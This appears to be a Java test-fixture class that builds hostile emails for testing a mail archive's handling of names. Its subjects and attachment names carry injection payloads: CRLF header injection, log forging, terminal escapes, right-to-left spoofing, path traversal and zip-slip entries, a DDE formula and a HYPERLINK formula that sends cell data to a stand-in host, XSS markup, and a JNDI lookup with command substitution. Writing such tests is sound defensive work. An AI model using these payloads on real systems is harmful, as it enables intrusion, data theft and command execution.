package org.muniment;

import static org.muniment.HostileBombs.attachment;
import static org.muniment.HostileBombs.zip;
import static org.muniment.HostileMailbox.letter;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// This is mail whose harm is in a name: a subject, a sender or a file's name that would be a header, a path, a line
/// of a log, a command to a terminal, a formula of a table, or other than it looks.
public final class HostileNames {
    /// No answer's header and no line of the log may hold this where a new line begins.
    public static final String INJECTED = "X-Injected";

    private HostileNames() {}

    static Map<String, byte[]> letters() {
        Map<String, byte[]> letters = new LinkedHashMap<>();
        for (Map.Entry<String, String> hostile : texts().entrySet()) {
            String word = encodedWord(hostile.getValue());
            String name = "name-" + hostile.getKey();
            letters.put(
                    name,
                    letter(
                            name,
                            "Subject: " + word + "\nReply-To: " + word + " <a@hostile.example>\n"
                                    + "Cc: \"" + hostile.getValue().replaceAll("[\\p{Cntrl}\"\\\\]", "")
                                    + "\" <b@hostile.example>\n"
                                    + "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nbody\n"
                                    + "--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename*=utf-8''"
                                    + percent(hostile.getValue()) + "\n\nx\n"
                                    + "--b\nContent-Type: text/plain; name=\"" + word
                                    + "\"\nContent-Disposition: attachment\n\nx\n--b--\n"));
        }
        letters.put(
                "zip-slip",
                letter(
                        "zip-slip",
                        attachment(
                                "slip.zip",
                                zip(
                                        0,
                                        "../../../../etc/cron.d/evil",
                                        "/etc/evil",
                                        "..\\..\\evil.exe",
                                        "C:\\evil",
                                        "a/../../evil"))));
        return letters;
    }

    /// What the subject, a person's name and two file names are, by what they would do.
    public static Map<String, String> texts() {
        return Map.ofEntries(
                Map.entry(
                        "header", "a\r\n" + INJECTED + ": yes\r\nSet-Cookie: muniment-session=stolen\r\n\r\n<script>"),
                Map.entry("log", "a\n2026-11-23T00:00:00Z ERROR " + INJECTED + " the administrator signed in\n"),
                Map.entry("terminal", "\u001b]0;owned\u0007\u001b[2J\u009b31m\u001b]8;;http://a.example\u0007x\b\b\b"),
                Map.entry("right-to-left", "invoice\u202efdp.exe\u2066\u200f\u061c"),
                Map.entry("path", "../../../../etc/passwd"),
                Map.entry("path-windows", "..\\..\\windows\\system32\\evil.exe"),
                Map.entry("path-absolute", "/etc/passwd\0.txt"),
                Map.entry("path-device", "CON.txt:stream"),
                Map.entry("formula", "=HYPERLINK(\"http://a.example?\"&A1,\"open\")"),
                Map.entry("formula-command", "@SUM(1+1)*cmd|' /C calc'!A0"),
                Map.entry("markup", "\"><script>document.title='broken'</script><img src=x onerror=alert(1)>"),
                Map.entry("template", "${jndi:ldap://a.example/x} {{7*7}} #{7*7} %n%s $(id) `id`"),
                Map.entry("long", "n".repeat(70_000)));
    }

    public static List<String> namesOfZipSlip() {
        return List.of("etc/cron.d/evil", "/etc/evil", "evil.exe");
    }

    private static String encodedWord(String text) {
        StringBuilder word = new StringBuilder("=?utf-8?Q?");
        for (byte octet : text.getBytes(StandardCharsets.UTF_8)) word.append("=%02X".formatted(octet));
        return word.append("?=").toString();
    }

    private static String percent(String text) {
        return encodedWord(text)
                .replaceFirst("^=\\?utf-8\\?Q\\?", "")
                .replace("?=", "")
                .replace('=', '%');
    }
}
